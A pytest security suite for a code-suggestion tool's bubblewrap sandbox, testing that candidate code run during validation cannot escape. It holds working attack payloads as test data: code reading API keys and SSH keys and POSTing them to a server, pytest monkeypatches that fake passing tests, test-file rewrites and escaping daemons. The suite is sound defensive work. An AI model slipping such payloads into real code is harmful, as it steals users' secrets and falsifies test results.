"""Issue 17: candidate code run by validation is confined. Each attack is real: a real
bubblewrap run of the project's real pytest suite, a real loopback server, real files.

Where a test also runs the attack with ``confine = "off"``, that is the control: it shows the
attack works when nothing stops it, so the confined case proves the confinement.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import textwrap
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from analysis.config import load_config
from analysis.environment import allowed, is_secret, without_secrets
from analysis.tracing import collector_env
from suggestions.model import ValidationStatus
from suggestions.store import Store
from suggestions.validate.sandbox import Sandbox
from suggestions.validate.validator import Validator, _env
from tests.conftest import ROOT, write
from tests.security.confinement_support import (
    FAKE_KEY,
    FAKE_SSH,
    Attacked,
    Recorder,
    alive,
    kill_all,
    make_attacked,
    needs_bwrap,
    processes_in,
    processes_with,
    serve_recorder,
    set_confine,
    snapshot,
    wait_until,
)
from tests.validation_project import suggestion


@pytest.fixture
def attacked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Attacked:
    return make_attacked(tmp_path, monkeypatch)


@pytest.fixture
def recorder() -> Iterator[Recorder]:
    yield from serve_recorder()


PYENV = Path(os.path.expanduser("~/.pyenv/versions"))  # read before any test moves $HOME


def validate(root: Path, old: str, new: str, rel: str = "calc/core.py"):  # type: ignore[no-untyped-def]
    with Store(root) as store:
        v = Validator(root, load_config(root), store, coverage=None)
        try:
            [s] = v.validate([suggestion(root, rel, old, new)])
        finally:
            v.close()
    return s.validation


def attack_code(a: Attacked, url: str) -> str:
    """Module-level code a candidate slips into calc/core.py: it steals, writes, phones home,
    then raises with what it managed, so the validation log shows each attempt."""
    return textwrap.dedent(f'''\
        import json as _json, os as _os, pathlib as _pl, urllib.request as _rq
        _got = {{"key": _os.environ.get("OPENAI_API_KEY"), "token": _os.environ.get("GITHUB_TOKEN")}}
        for _p in (_os.path.expanduser("~/.ssh/id_rsa"), {str(a.ssh_key)!r}):
            try:
                _got[_p] = open(_p).read()
            except Exception as _e:
                _got[_p] = "refused: " + type(_e).__name__
        _here = _pl.Path(__file__).resolve()
        _targets = [d for d in _here.parents if (d / ".kaizen").is_dir()] + [_pl.Path({str(a.root)!r})]
        for _d in _targets:
            for _name, _text in (("PWNED", "x"), ("calc/core.py", "BROKEN = 1\\n")):
                try:
                    with open(_d / _name, "a") as _fh:
                        _fh.write(_text)
                    _got["wrote " + str(_d / _name)] = "yes"
                except Exception as _e:
                    _got["wrote " + str(_d / _name)] = "refused: " + type(_e).__name__
        try:
            _rq.urlopen(_rq.Request({url!r}, data=_json.dumps(_got).encode(), method="POST"), timeout=10)
            _got["sent"] = "yes"
        except Exception as _e:
            _got["sent"] = "refused: " + type(_e).__name__
        raise RuntimeError("KAIZEN-ATTACK " + _json.dumps(_got))
        ''')


# --- files, secrets, network -------------------------------------------------------------------


@needs_bwrap
def test_candidate_cannot_read_home_write_the_project_or_reach_the_network(
        attacked: Attacked, recorder: Recorder) -> None:
    before, home_before = snapshot(attacked.root), snapshot(attacked.home)
    v = validate(attacked.root, "def add(a, b):", attack_code(attacked, recorder.url) + "\n\ndef add(a, b):")
    assert v.confined is True
    assert "KAIZEN-ATTACK" in v.log, v.log  # the attack ran
    assert v.status is ValidationStatus.FAILED  # it raises on purpose
    assert recorder.received == []  # nothing reached the server
    assert snapshot(attacked.root) == before  # no PWNED, calc/core.py untouched
    assert snapshot(attacked.home) == home_before
    assert FAKE_KEY not in v.log and "kaizen-planted-test-key" not in v.log
    assert "refused" in v.log


def test_control_unconfined_the_same_attack_gets_out(attacked: Attacked, recorder: Recorder) -> None:
    set_confine(attacked.root, "off")
    v = validate(attacked.root, "def add(a, b):", attack_code(attacked, recorder.url) + "\n\ndef add(a, b):")
    assert v.confined is False and v.log.startswith("unconfined:")
    assert recorder.received  # once per test run of the validation
    sent = json.loads(recorder.received[0])
    assert sent[str(attacked.ssh_key)] == FAKE_SSH  # the unconfined run read the planted key
    assert (attacked.root / "PWNED").exists()  # and wrote into the real project
    # Even unconfined, the environment is allow-listed: the key and the token stay out.
    assert sent["key"] is None and sent["token"] is None


def test_environment_allow_list_and_secret_scrub(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    env = {"PATH": "/bin", "LANG": "C.UTF-8", "PYTHONHASHSEED": "0", "OPENAI_API_KEY": "k",
           "AWS_SECRET_ACCESS_KEY": "s", "GITHUB_TOKEN": "t", "SSH_AUTH_SOCK": "/run/a", "MY_SECRET": "x",
           "DB_PASSWORD": "p", "APP_MODE": "dev", "APP_TOKEN": "t2", "RANDOM": "r"}
    assert allowed(env) == {"PATH": "/bin", "LANG": "C.UTF-8", "PYTHONHASHSEED": "0"}
    assert allowed(env, ["APP_*"]) == {"PATH": "/bin", "LANG": "C.UTF-8", "PYTHONHASHSEED": "0", "APP_MODE": "dev"}
    assert allowed(env, ["APP_TOKEN"])["APP_TOKEN"] == "t2"  # named exactly: the user's choice
    assert set(without_secrets(env)) == {"PATH", "LANG", "PYTHONHASHSEED", "APP_MODE", "RANDOM"}
    assert is_secret("openai_api_key") and not is_secret("PYTHONPATH")
    monkeypatch.setenv("OPENAI_API_KEY", FAKE_KEY)
    monkeypatch.setenv("ANTHROPIC_API_KEY", FAKE_KEY)
    traced = collector_env(tmp_path, tmp_path / "out")
    assert "OPENAI_API_KEY" not in traced and "ANTHROPIC_API_KEY" not in traced
    assert "OPENAI_API_KEY" not in _env(tmp_path)


# --- the test runner ---------------------------------------------------------------------------

RUNNER_OFF = "import _pytest.python as _p\n_p.Function.runtest = lambda self: None\n\n\ndef add(a, b):"


def test_disabled_test_runner_cannot_pass(attacked: Attacked) -> None:
    # The candidate breaks add() and turns the runner into a no-op at import.
    v = validate(attacked.root, "def add(a, b):\n    return a + b",
                 RUNNER_OFF + "\n    return a - b")
    assert v.status is ValidationStatus.FAILED, v.log
    assert "reported passed without running" in v.log
    assert "tests/test_core.py::test_add" in v.failed_tests


def test_swallowed_failures_cannot_pass_on_312(attacked: Attacked, monkeypatch: pytest.MonkeyPatch) -> None:
    # The runner still runs the body but eats its exception: sys.monitoring (3.12+) sees the
    # body unwind. (On 3.11 this one is not detected: see docs/security.md.)
    py = next(iter(sorted(PYENV.glob("3.1[23]*/bin/python"))), None)
    if py is None:
        pytest.skip("no Python 3.12+ here")
    # pytest is pure Python: Kaizen's own copy serves the other interpreter.
    site = next(Path(sys.prefix).glob("lib/python3*/site-packages"))
    monkeypatch.setenv("PYTHONPATH", str(site))
    write(attacked.root, {"kaizen.toml": f'[validation]\ntimeout = 120\ntest-command = "{py} -m pytest"\n'})
    swallow = ("import _pytest.python as _p\n_orig = _p.Function.runtest\n\n\n"
               "def _quiet(self):\n    try:\n        _orig(self)\n    except Exception:\n        pass\n\n\n"
               "_p.Function.runtest = _quiet\n\n\ndef add(a, b):")
    v = validate(attacked.root, "def add(a, b):\n    return a + b", swallow + "\n    return a - b")
    assert v.status is ValidationStatus.FAILED, v.log
    assert "although their test function raised" in v.log


def test_a_change_to_the_tests_is_not_validated(attacked: Attacked) -> None:
    v = validate(attacked.root, "assert add(2, 3) == 5", "assert True", rel="tests/test_core.py")
    assert v.status is ValidationStatus.SKIPPED
    assert "part of the test suite" in v.log


@pytest.mark.parametrize("mode", ["auto", "off"])
def test_candidate_cannot_rewrite_the_tests_during_the_run(attacked: Attacked, mode: str) -> None:
    # At import (while test_core.py is collected) the candidate rewrites test_later.py, which
    # is collected next, into a test that cannot fail, and breaks mul().
    if mode == "auto" and needs_bwrap.args[0]:
        pytest.skip(needs_bwrap.kwargs["reason"])
    set_confine(attacked.root, mode)
    rewrite = ("import pathlib as _pl\n"
               "_t = _pl.Path(__file__).resolve().parent.parent / 'tests' / 'test_later.py'\n"
               "try:\n    _t.write_text('def test_mul():\\n    pass\\n')\nexcept OSError:\n    pass\n\n\n"
               "def add(a, b):")
    v = validate(attacked.root, "def add(a, b):", rewrite)
    assert v.status is ValidationStatus.PASSED  # only a harmless change so far
    v = validate(attacked.root, "def add(a, b):\n    return a + b\n\n\ndef mul(a, b):\n    return a * b",
                 rewrite + "\n    return a + b\n\n\ndef mul(a, b):\n    return a * b + 1")
    if mode == "off":  # control: unconfined, the rewritten test lets the broken mul() pass
        assert v.status is ValidationStatus.PASSED, v.log
        return
    assert v.status is ValidationStatus.FAILED, v.log
    assert v.failed_tests == ("tests/test_later.py::test_mul",)


# --- processes ---------------------------------------------------------------------------------


def daemon_test(token: str, hang: bool = False) -> str:
    """A project test that starts a setsid daemon, and (``hang``) then never returns."""
    return textwrap.dedent(f'''\
        import os, subprocess, sys, time
        from pathlib import Path


        def test_daemon():
            root = Path(__file__).resolve().parent.parent
            subprocess.Popen(["setsid", sys.executable, "-c", "import time; time.sleep(900)  # {token}-daemon"],
                             stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                             start_new_session=True)
            subprocess.Popen([sys.executable, "-c", "import time; time.sleep(900)  # {token}-child"])
            (root / "daemon_started").write_text("1")
            deadline = time.monotonic() + 120  # hang guard: the host says when it has seen them
            while not (root / "host_saw_daemon").exists() and time.monotonic() < deadline:
                time.sleep(0.05)
            if {hang!r}:
                time.sleep(900)
        ''')


def see_daemon(root: Path, token: str) -> list[int]:
    """Wait until the test has started its daemon and child; tell it so; return their pids."""
    boxes = root / ".kaizen" / "sandbox"
    wait_until(lambda: any(boxes.glob("*/daemon_started")), 120, "the test to start its daemon")
    wait_until(lambda: len(processes_with(token)) >= 2, 60, "the daemon and the child on the host")
    pids = processes_with(token)
    for started in boxes.glob("*/daemon_started"):
        (started.parent / "host_saw_daemon").write_text("1")
    return pids


@pytest.mark.parametrize("mode", ["auto", "off"])
def test_a_tests_setsid_daemon_does_not_outlive_validation(attacked: Attacked, mode: str) -> None:
    if mode == "auto" and needs_bwrap.args[0]:
        pytest.skip(needs_bwrap.kwargs["reason"])
    token = uuid.uuid4().hex
    set_confine(attacked.root, mode)
    write(attacked.root, {"tests/test_daemon.py": daemon_test(token)})
    import threading

    seen: list[int] = []
    watcher = threading.Thread(target=lambda: seen.extend(see_daemon(attacked.root, token)), daemon=True)
    watcher.start()
    try:
        v = validate(attacked.root, "return a + b", "return b + a")
        watcher.join(120)
        assert len(seen) >= 2, "the daemon was never seen"
        if mode == "auto":
            assert v.status is ValidationStatus.PASSED and v.confined, v.log
            wait_until(lambda: not any(alive(p) for p in seen), 60, "the daemon to die with the run")
        else:  # control: without the PID namespace the setsid daemon lives on
            assert any(alive(p) for p in seen)
    finally:
        kill_all(processes_with(token))


DRIVER = '''\
import sys
sys.path.insert(0, {kaizen!r})
from analysis.config import load_config
from suggestions.store import Store
from suggestions.validate.validator import Validator
from tests.validation_project import suggestion
root = {root!r}
v = Validator(root, load_config(root), Store(root), coverage=None)
try:
    v.validate([suggestion(__import__("pathlib").Path(root), "calc/core.py", "return a + b", "return b + a")])
except KeyboardInterrupt:
    print("interrupted", flush=True)
    sys.exit(130)
'''


def start_driver(a: Attacked, token: str) -> tuple[subprocess.Popen[bytes], list[int]]:
    write(a.root, {"tests/test_daemon.py": daemon_test(token, hang=True),
                   "kaizen.toml": "[validation]\ntimeout = 3600\n"})  # the run never ends by itself
    script = a.root.parent / "driver.py"
    script.write_text(DRIVER.format(kaizen=str(ROOT), root=str(a.root)))
    proc = subprocess.Popen([sys.executable, str(script)], cwd=a.root.parent, stdout=subprocess.PIPE,
                            stderr=subprocess.STDOUT)
    pids = see_daemon(a.root, token)
    return proc, pids


@needs_bwrap
@pytest.mark.parametrize("sig", [signal.SIGKILL, signal.SIGTERM], ids=["SIGKILL", "SIGTERM"])
def test_killing_kaizen_mid_validation_leaves_no_test_process(attacked: Attacked, sig: int) -> None:
    token = uuid.uuid4().hex
    proc, pids = start_driver(attacked, token)
    try:
        boxes = attacked.root / ".kaizen" / "sandbox"
        assert processes_in(boxes)  # pytest itself is running in a sandbox
        os.kill(proc.pid, sig)
        proc.wait(60)
        wait_until(lambda: not any(alive(p) for p in pids), 60, "the daemon and the child to die with Kaizen")
        assert not processes_with(token)
        wait_until(lambda: not processes_in(boxes), 60, "the test processes to die with Kaizen")
    finally:
        proc.kill()
        kill_all(processes_with(token))


@needs_bwrap
def test_ctrl_c_stops_validation_at_once(attacked: Attacked) -> None:
    token = uuid.uuid4().hex
    proc, pids = start_driver(attacked, token)
    try:
        os.kill(proc.pid, signal.SIGINT)
        # The run would last an hour: the driver ending at all shows the cancel reached it.
        out, _ = proc.communicate(timeout=60)
        assert proc.returncode == 130, out
        assert b"interrupted" in out
        assert not any(alive(p) for p in pids) and not processes_with(token)
        assert not processes_in(attacked.root / ".kaizen" / "sandbox")
    finally:
        proc.kill()
        kill_all(processes_with(token))


# --- the sandbox copy --------------------------------------------------------------------------


def test_sandbox_copy_never_follows_a_link_out_of_the_project(attacked: Attacked) -> None:
    (attacked.root / "to_root").symlink_to("/")
    (attacked.root / "keys").symlink_to(attacked.home / ".ssh")
    (attacked.root / "key_file").symlink_to(attacked.ssh_key)
    (attacked.root / "calc" / "alias.py").symlink_to(attacked.root / "calc" / "core.py")  # inside: fine
    box = Sandbox(attacked.root, attacked.root / ".kaizen" / "sandbox" / "t")
    stats = box.sync()
    copied = snapshot(box.path)
    assert set(copied) == {"calc/__init__.py", "calc/core.py", "calc/alias.py", "kaizen.toml", *[
        k for k in snapshot(attacked.root) if k.startswith("tests/")]}
    assert stats.copied == len(copied)
    assert not any(FAKE_SSH.encode() == data for data in copied.values())


def test_sync_never_writes_through_a_link_a_test_planted(attacked: Attacked, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    box = Sandbox(attacked.root, attacked.root / ".kaizen" / "sandbox" / "t")
    box.sync()
    # A test run replaced the sandbox's calc/ by a link to a folder of the user's.
    import shutil

    shutil.rmtree(box.path / "calc")
    (box.path / "calc").symlink_to(outside)
    (outside / "keep.txt").write_text("mine")
    box.sync()
    assert sorted(p.name for p in outside.iterdir()) == ["keep.txt"]  # nothing written or deleted there
    assert not (box.path / "calc").is_symlink()
    assert (box.path / "calc" / "core.py").read_bytes() == (attacked.root / "calc" / "core.py").read_bytes()


# --- what an unconfined result may do --------------------------------------------------------


@pytest.mark.parametrize("mode", ["auto", "off"])
def test_an_unconfined_result_never_applies_itself(attacked: Attacked, mode: str) -> None:
    from suggestions.decide.policy import Policy

    if mode == "auto" and needs_bwrap.args[0]:
        pytest.skip(needs_bwrap.kwargs["reason"])
    set_confine(attacked.root, mode, '\n[[policy.rules]]\nname = "fixes"\nrequire-validation = "passed"\n')
    hour_ago = __import__("time").time() - 3600
    os.utime(attacked.root / "calc" / "core.py", (hour_ago, hour_ago))  # past the quiet period
    with Store(attacked.root) as store:
        v = Validator(attacked.root, load_config(attacked.root), store, coverage=None)
        try:
            [s] = v.validate([suggestion(attacked.root, "calc/core.py", "return a + b", "return b + a")])
        finally:
            v.close()
        assert s.validation.status is ValidationStatus.PASSED, s.validation.log
        verdict = Policy.load(attacked.root, store).evaluate(s)
    if mode == "auto":
        assert s.validation.confined is True
        assert verdict.eligible, verdict.reasons
    else:
        assert s.validation.confined is False
        assert not verdict.eligible
        assert any("unconfined" in r for r in verdict.reasons), verdict.reasons


def test_confine_require_refuses_to_run_unconfined(attacked: Attacked, monkeypatch: pytest.MonkeyPatch) -> None:
    import suggestions.validate.confine as confine

    monkeypatch.setattr(confine, "probe", lambda bwrap=None: (False, "bubblewrap (bwrap) is not installed"))
    set_confine(attacked.root, "require")
    v = validate(attacked.root, "return a + b", "return b + a")
    assert v.status is ValidationStatus.ERROR and v.confined is False
    assert "cannot be confined" in v.log and "not installed" in v.log


def test_without_bubblewrap_results_are_marked_unconfined_and_it_is_said_once(
        attacked: Attacked, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture) -> None:
    import suggestions.validate.confine as confine

    monkeypatch.setattr(confine, "probe", lambda bwrap=None: (False, "bubblewrap (bwrap) is not installed"))
    monkeypatch.setattr(confine, "_warned", set())
    first = validate(attacked.root, "return a + b", "return b + a")
    second = validate(attacked.root, "return a * b", "return b * a")
    for v in (first, second):
        assert v.status is ValidationStatus.PASSED and v.confined is False, v.log
        assert v.log.startswith("unconfined: bubblewrap (bwrap) is not installed")
    said = [r for r in caplog.records if "UNCONFINED" in r.getMessage()]
    assert len(said) == 1


@needs_bwrap
def test_candidate_cannot_read_the_users_kaizen_folder_wherever_it_is(
        attacked: Attacked, monkeypatch: pytest.MonkeyPatch) -> None:
    # Outside every folder the confinement hides anyway (/tmp, homes): only KAIZEN_HOME says
    # where it is, as a user who keeps it on another disk would.
    own = Path(tempfile.mkdtemp(prefix="kaizen-home-", dir=Path(__file__).parent))
    try:
        (own / "audit.key").write_text("kaizen-planted-audit-key")
        monkeypatch.setenv("KAIZEN_HOME", str(own))
        steal = textwrap.dedent(f'''\
            try:
                _got = open({str(own / "audit.key")!r}).read()
            except Exception as _e:
                _got = "refused: " + type(_e).__name__
            raise RuntimeError("KAIZEN-ATTACK " + _got)
            ''')
        v = validate(attacked.root, "def add(a, b):", steal + "\n\ndef add(a, b):")
        assert v.confined is True
        assert "KAIZEN-ATTACK refused" in v.log, v.log
        assert "kaizen-planted-audit-key" not in v.log
    finally:
        shutil.rmtree(own, ignore_errors=True)
